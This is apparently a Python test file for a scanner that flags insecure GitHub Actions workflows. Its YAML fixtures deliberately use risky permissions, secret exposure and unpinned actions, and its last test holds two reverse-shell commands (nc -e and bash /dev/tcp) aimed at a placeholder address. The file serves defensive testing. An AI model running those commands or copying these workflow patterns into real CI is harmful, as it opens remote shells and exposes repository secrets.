"""Rights, credentials, sources and scripts of GitHub workflows."""

from __future__ import annotations

from automation_scripts.results import Severity
from automation_scripts.validation.security.check import check_security

from .marked import assert_marked, parsed

NAME = ".github/workflows/ci.yml"

RIGHTS = """\
on:
  pull_request_target:                          # expect: injection
  issue_comment: {types: [created]}             # expect: injection
permissions: write-all                          # expect: wildcard-perm
jobs:
  a:
    runs-on: [self-hosted, linux]               # expect: injection
    if: github.actor == 'dependabot[bot]'       # expect: auth-off
    steps:
      - run: make
        env:
          ALL: ${{ toJSON(secrets) }}           # expect: wildcard-perm
          ONE: ${{ secrets[matrix.name] }}      # expect: wildcard-perm
          FINE: ${{ secrets.FINE }}
          ACTIONS_ALLOW_UNSECURE_COMMANDS: true # expect: injection
      - if: contains('refs/heads/main refs/heads/next', github.ref)   # expect: auth-off
        run: echo "NUMBER=$(cat number)" >> "$GITHUB_ENV"             # expect: injection
  b:
    uses: own/repo/.github/workflows/x.yml@0123456789abcdef0123456789abcdef01234567
    secrets: inherit                            # expect: wildcard-perm
"""

LIMITED = """\
on: [push, pull_request]
permissions: {contents: read}
jobs:
  a:
    runs-on: ubuntu-24.04
    permissions: {contents: write}
    if: github.actor == 'octocat' && contains(fromJSON('["a", "b"]'), github.ref)
    container: node:22.1
    services: {db: {image: "postgres@sha256:0123456789abcdef0123456789abcdef"}}
    steps:
      - uses: actions/checkout@v5
        with: {persist-credentials: false}
      - uses: actions/upload-artifact@v4
        with: {name: a, path: .}
      - uses: ./.github/actions/own
      - uses: docker://alpine:3.20
      - run: |
          echo "A=1" >> "$GITHUB_ENV"
          echo "B=${{ github.sha }}" >> "$GITHUB_OUTPUT"
  b:
    uses: own/repo/.github/workflows/x.yml@0123456789abcdef0123456789abcdef01234567
    secrets: {token: "${{ secrets.TOKEN }}"}
"""

UNLIMITED = """\
on: push
jobs:
  test:                                         # expect: wildcard-perm
    runs-on: ubuntu-24.04
    steps: [{run: make}]
  lint:
    runs-on: ubuntu-24.04
    steps: [{run: make lint}]
"""

USES = """\
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-18.04                       # expect: deprecated-api
    container: {image: "node:latest"}           # expect: latest-tag
    services:
      db: {image: postgres}                     # expect: latest-tag
      own: {image: "${{ matrix.image }}"}
    steps:
      - uses: someone/action@main               # expect: latest-tag
      - uses: someone/action@v3                 # expect: latest-tag
      - uses: actions/setup-node@main           # expect: latest-tag
      - uses: actions/setup-node@v4
      - uses: actions/upload-artifact@v3        # expect: deprecated-api
      - uses: actions/create-release@v1         # expect: deprecated-api
      - uses: docker://alpine                   # expect: latest-tag
      - run: echo "::set-output name=a::b"      # expect: deprecated-api
      - run: echo "::notice::fine"
  called:
    uses: someone/flows/.github/workflows/x.yml@master   # expect: latest-tag
"""

CHECKOUTS = """\
on: push
permissions: {}
jobs:
  leaks:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v5               # expect: hardcoded-secret
      - uses: actions/upload-artifact@v4
        with:
          path: .
  keeps:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v5
        with:
          persist-credentials: true             # expect: wildcard-perm
      - run: make
"""


def test_rights_and_triggers() -> None:
    found = assert_marked(check_security, RIGHTS, NAME)
    assert [f.severity for f in found if f.rule_id == "security/unsafe-commands"] == [Severity.HIGH]


def test_a_limited_workflow_is_silent() -> None:
    assert_marked(check_security, LIMITED, NAME)


def test_what_nothing_limits_is_said_once_for_the_workflow() -> None:
    assert_marked(check_security, UNLIMITED, NAME)


def test_what_is_taken_from_others() -> None:
    found = {f.line: f for f in assert_marked(check_security, USES, NAME)}
    assert found[11].severity is Severity.MEDIUM  # a branch of somebody
    assert found[12].severity is Severity.INFO  # a tag of somebody
    assert (found[11].column, found[11].end_column) == (30, 34)


def test_checkouts_that_keep_the_token() -> None:
    found = {f.line: f for f in assert_marked(check_security, CHECKOUTS, NAME)}
    assert found[7].severity is Severity.MEDIUM and found[16].severity is Severity.INFO


def test_privileged_triggers_weigh_by_the_token() -> None:
    text = "on: pull_request_target\npermissions: {PERMISSION}\njobs: {a: {runs-on: x, steps: []}}\n"
    for permission, severity in (("contents: read", Severity.INFO), ("contents: write", Severity.LOW)):
        (found,) = check_security([parsed(text.replace("PERMISSION", permission), NAME)])
        assert (found.line, found.severity) == (1, severity)


def test_dependencies_that_may_run_code() -> None:
    text = """\
version: 2
updates:
  - package-ecosystem: bundler
    directory: /
    insecure-external-code-execution: allow     # expect: injection
"""
    assert_marked(check_security, text, ".github/dependabot.yml")


def test_a_reverse_shell() -> None:
    text = """\
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    steps:
      - run: nc -e /bin/bash 203.0.113.9 4444                     # expect: injection
      - run: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1            # expect: injection
      - run: nc -z db 5432
"""
    assert_marked(check_security, text, NAME)
